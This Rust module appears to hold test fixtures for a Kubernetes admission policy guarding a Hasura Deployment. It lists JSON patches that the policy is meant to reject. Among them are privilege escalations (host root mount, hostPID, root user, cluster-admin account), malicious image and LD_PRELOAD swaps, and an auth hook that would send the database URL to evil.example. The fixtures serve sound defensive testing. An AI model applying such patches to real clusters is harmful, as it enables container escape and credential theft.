//! Patches of a Deployment that run code elsewhere, or take from Hasura what it has, with what the policy says to each.

use serde_json::{Value, json};

/// What the policy says of each part of a Deployment.
const OBJECT: &str = "changes no metadata of a Deployment";
const SPEC: &str = "changes nothing of a Deployment but its pod template";
const TEMPLATE: &str = "changes no metadata of a pod template but its annotation";
const POD: &str = "changes nothing of a pod but the environment";
const CONTAINER: &str = "changes nothing of a container but its own env entries";
const ENTRY: &str = "gives its env entries plain values, or the key of the same name";

pub fn add(path: &str, value: Value) -> Value {
    json!([{"op": "add", "path": path, "value": value}])
}

pub fn remove(path: &str) -> Value {
    json!([{"op": "remove", "path": path}])
}

/// In the pod template's spec.
pub fn pod(field: &str, value: Value) -> Value {
    add(&format!("/spec/template/spec/{field}"), value)
}

/// In the container of Hasura.
pub fn container(field: &str, value: Value) -> Value {
    pod(&format!("containers/0/{field}"), value)
}

/// One more env entry of Hasura.
fn entry(value: Value) -> Value {
    container("env/-", value)
}

pub fn by_value(name: &str, value: &str) -> Value {
    entry(json!({"name": name, "value": value}))
}

fn by_reference(from: Value) -> Value {
    entry(json!({"name": "HASURA_GRAPHQL_JWT_SECRET", "valueFrom": from}))
}

/// Around the containers.
pub fn outside() -> Vec<(Value, &'static str)> {
    let owner = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "x"}]);
    let exec = json!({"exec": {"command": ["sh", "-c", "id"]}});
    vec![
        (add("/metadata/labels", json!({"a": "b"})), OBJECT),
        (add("/metadata/annotations", json!({"a": "b"})), OBJECT),
        (add("/metadata/ownerReferences", owner), OBJECT),
        (add("/metadata/finalizers", json!(["a.example/b"])), OBJECT),
        (add("/spec/replicas", json!(9)), SPEC),
        (add("/spec/paused", json!(true)), SPEC),
        (add("/spec/minReadySeconds", json!(1)), SPEC),
        (add("/spec/revisionHistoryLimit", json!(0)), SPEC),
        (add("/spec/progressDeadlineSeconds", json!(999)), SPEC),
        (add("/spec/strategy", json!({"type": "Recreate"})), SPEC),
        (
            add("/spec/template/metadata/labels/a", json!("b")),
            TEMPLATE,
        ),
        (
            add("/spec/template/metadata/annotations/a", json!("b")),
            TEMPLATE,
        ),
        (
            add("/spec/template/metadata/annotations/kept", json!("b")),
            TEMPLATE,
        ),
        (remove("/spec/template/metadata/annotations/kept"), TEMPLATE),
        (
            pod("initContainers", json!([{"name": "evil", "image": "evil"}])),
            POD,
        ),
        (
            pod("containers/-", json!({"name": "evil", "image": "evil"})),
            POD,
        ),
        (remove("/spec/template/spec/containers/1"), POD),
        (container("name", json!("another")), POD),
        (
            json!([{"op": "move", "from": "/spec/template/spec/containers/1", "path": "/spec/template/spec/containers/0"}]),
            POD,
        ),
        (pod("serviceAccountName", json!("cluster-admin")), POD),
        (pod("automountServiceAccountToken", json!(true)), POD),
        (
            pod(
                "volumes",
                json!([{"name": "host", "hostPath": {"path": "/"}}]),
            ),
            POD,
        ),
        (pod("hostNetwork", json!(true)), POD),
        (pod("hostPID", json!(true)), POD),
        (pod("shareProcessNamespace", json!(true)), POD),
        (pod("securityContext", json!({"runAsUser": 0})), POD),
        (
            pod(
                "hostAliases",
                json!([{"ip": "203.0.113.1", "hostnames": ["auth.example.com"]}]),
            ),
            POD,
        ),
        (pod("dnsPolicy", json!("Default")), POD),
        (pod("nodeName", json!("mine")), POD),
        (pod("tolerations", json!([{"operator": "Exists"}])), POD),
        (pod("priorityClassName", json!("system-node-critical")), POD),
        (pod("imagePullSecrets", json!([{"name": "a"}])), POD),
        (container("livenessProbe", exec.clone()), CONTAINER),
        (
            container("lifecycle", json!({"postStart": exec})),
            CONTAINER,
        ),
    ]
}

/// In the containers.
pub fn inside() -> Vec<(Value, &'static str)> {
    let jwt = "HASURA_GRAPHQL_JWT_SECRET";
    let key = |object: &str, key: &str| json!({"name": object, "key": key});
    let with_image = json!([
        {"op": "add", "path": "/spec/template/spec/containers/0/env/-", "value": {"name": jwt, "value": "{}"}},
        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil"},
    ]);
    vec![
        (container("image", json!("evil")), CONTAINER),
        (with_image, CONTAINER),
        (pod("containers/1/image", json!("evil")), CONTAINER),
        (container("imagePullPolicy", json!("Always")), CONTAINER),
        (container("command", json!(["sh", "-c", "id"])), CONTAINER),
        (container("args", json!(["--admin-secret", ""])), CONTAINER),
        (container("workingDir", json!("/tmp")), CONTAINER),
        (
            container("envFrom", json!([{"secretRef": {"name": "a"}}])),
            CONTAINER,
        ),
        (
            container("ports", json!([{"containerPort": 22}])),
            CONTAINER,
        ),
        (
            container("securityContext", json!({"runAsUser": 0})),
            CONTAINER,
        ),
        (
            container("resources", json!({"limits": {"cpu": "1m"}})),
            CONTAINER,
        ),
        (by_value("LD_PRELOAD", "/tmp/evil.so"), CONTAINER),
        (by_value("HASURA_GRAPHQL_JWT_SECRETS", "[]"), CONTAINER),
        (by_value("hasura_graphql_jwt_secret", "{}"), CONTAINER),
        (
            pod(
                "containers/1/env",
                json!([{"name": "LD_PRELOAD", "value": "x"}]),
            ),
            CONTAINER,
        ),
        (
            container("env/0", json!({"name": "FIRST", "value": "x"})),
            CONTAINER,
        ),
        (
            container("env/0/value", json!("postgres://evil/hasura")),
            CONTAINER,
        ),
        (remove("/spec/template/spec/containers/0/env/1"), CONTAINER),
        (
            json!([{"op": "move", "from": "/spec/template/spec/containers/0/env/1", "path": "/spec/template/spec/containers/0/env/0"}]),
            CONTAINER,
        ),
        (
            by_value(
                "HASURA_GRAPHQL_AUTH_HOOK",
                "https://evil.example/$(HASURA_GRAPHQL_DATABASE_URL)",
            ),
            ENTRY,
        ),
        (
            by_reference(json!({"fieldRef": {"fieldPath": "spec.nodeName"}})),
            ENTRY,
        ),
        (
            by_reference(json!({"secretKeyRef": key("other", "password")})),
            ENTRY,
        ),
        (
            by_reference(json!({"configMapKeyRef": key("other", "text")})),
            ENTRY,
        ),
        (
            by_reference(json!({"secretKeyRef": {"name": "a", "key": jwt, "optional": true}})),
            ENTRY,
        ),
    ]
}
